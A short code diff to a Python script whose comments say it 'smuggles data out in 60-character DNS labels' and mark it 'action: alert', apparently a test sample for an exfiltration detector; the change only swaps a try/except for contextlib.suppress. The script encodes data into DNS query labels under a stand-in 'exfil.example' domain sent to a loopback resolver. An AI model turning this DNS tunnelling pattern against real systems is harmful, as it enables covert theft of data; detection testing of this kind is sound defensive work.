@@ -2,6 +2,7 @@
 # action: alert
 # about: smuggles data out in 60-character DNS labels (to a resolver on loopback)
 import base64
+import contextlib
 import os
 import socket
 import struct
@@ -14,7 +15,5 @@ for i in range(0, len(data), 60):
     for part in (label, "x", "exfil", "example"):
         q += bytes([len(part)]) + part.encode()
     q += b"\x00" + struct.pack(">HH", 1, 1)
-    try:
+    with contextlib.suppress(OSError):
         s.sendto(q, ("127.0.0.1", 53))
-    except OSError:
-        pass
